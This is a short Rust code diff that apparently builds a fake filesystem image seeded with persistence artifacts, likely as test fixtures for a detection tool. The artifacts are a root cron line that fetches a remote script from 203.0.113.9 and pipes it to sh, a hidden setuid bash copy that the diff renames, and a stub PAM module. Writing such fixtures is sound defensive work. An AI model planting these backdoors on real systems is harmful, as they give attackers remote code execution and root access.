@@ -102,7 +102,7 @@ fn image(dir: &std::path::Path) -> std::path::PathBuf {
             b"*/10 * * * * root curl -fsSL http://203.0.113.9/s.sh | sh\n",
             0o644,
         ),
-        ("usr/local/lib/.cache/helper", BASH, 0o4755),
+        ("usr/local/lib/.cache/updater", BASH, 0o4755),
         (
             "usr/lib/x86_64-linux-gnu/security/pam_audit2.so",
             b"\x7fELF x",
